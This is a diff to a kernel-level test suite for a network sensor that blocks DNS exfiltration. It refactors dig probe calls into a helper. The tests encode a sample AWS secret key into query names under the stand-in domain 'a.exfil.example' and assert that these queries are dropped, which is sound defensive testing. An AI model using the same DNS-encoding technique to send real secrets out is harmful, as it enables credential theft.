@@ -10,7 +10,7 @@
 import assert from "node:assert/strict";
 import type { NetworkEvent, NetworkSettings } from "../sensors/network.ts";
 import { kernelTest } from "./helpers/kernel.ts";
-import { RESOLVER, withDns } from "./helpers/net_dns.ts";
+import { digCommand, RESOLVER, withDns } from "./helpers/net_dns.ts";
 import { NetHarness, PROBE, type TestNetns } from "./helpers/net_harness.ts";
 
 const EPERM = "errno 1";
@@ -224,17 +224,11 @@ kernelTest(
       await withSensors({ mode: "block" }, async (h) => {
         h.network.setPolicy(POLICY);
         await withDns(h, async (netns) => {
-          const dig = (name: string, qtype: string, transport: string) =>
-            h.run(netns.exec([
-              "python3",
-              PROBE,
-              "dig",
-              "127.0.0.53",
-              "53",
-              name,
-              qtype,
-              transport,
-            ]));
+          const dig = (
+            name: string,
+            qtype: string,
+            transport: "udp" | "tcp",
+          ) => h.run(netns.exec(digCommand(name, qtype, transport)));
           const secret = exfilName(
             "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
             "a.exfil.example",
@@ -244,7 +238,7 @@ kernelTest(
           assert.equal(names[1].length, 253);
           for (const name of names) {
             for (const [qtype, text] of QTYPES) {
-              for (const transport of ["udp", "tcp"]) {
+              for (const transport of ["udp", "tcp"] as const) {
                 const result = await dig(name, qtype, transport);
                 // UDP: the send fails; TCP: the query segment is dropped
                 assert.deepEqual(
@@ -265,7 +259,7 @@ kernelTest(
           assert.doesNotMatch(await Deno.readTextFile(queryLog), /exfil/);
 
           // an allowed name still resolves, over UDP and TCP
-          for (const transport of ["udp", "tcp"]) {
+          for (const transport of ["udp", "tcp"] as const) {
             const ok = await dig("n3.allowed.test", "1", transport);
             assert.deepEqual(ok.lines, ["answer 127.1.0.3"], ok.stderr);
             const [event] = asked(h, ok.pid, "n3.allowed.test");
@@ -303,16 +297,7 @@ kernelTest(
         h.network.setPolicy(POLICY);
         await withDns(h, async (netns) => {
           const name = exfilName("secret", "a.exfil.example");
-          const dig = () =>
-            h.run(netns.exec([
-              "python3",
-              PROBE,
-              "dig",
-              "127.0.0.53",
-              "53",
-              name,
-              "16",
-            ]));
+          const dig = () => h.run(netns.exec(digCommand(name, "16")));
           const any = await dig();
           assert.deepEqual(any.lines, ["answer"], any.stderr);
           const [allowed] = asked(h, any.pid, name);
